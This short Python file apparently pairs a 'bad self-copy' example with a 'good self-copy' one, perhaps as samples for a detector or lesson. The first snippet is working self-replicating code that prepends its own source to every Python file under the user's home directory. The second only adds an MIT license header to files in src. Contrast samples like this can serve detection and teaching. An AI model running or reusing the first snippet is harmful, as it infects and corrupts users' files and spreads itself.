#: bad self-copy
import glob
import os

ME = open(__file__).read()
for path in glob.glob(os.path.expanduser("~/**/*.py"), recursive=True):
    with open(path, "r+") as target:
        text = target.read()
        if "# kit-marker" not in text:
            target.seek(0)
            target.write("# kit-marker\n" + ME + "\n" + text)  #!

#: good self-copy
import glob
import os

HEADER = "# SPDX-License-Identifier: MIT\n"
for path in glob.glob(os.path.join("src", "**", "*.py"), recursive=True):
    with open(path, "r+") as target:
        text = target.read()
        if not text.startswith(HEADER):
            target.seek(0)
            target.write(HEADER + text)
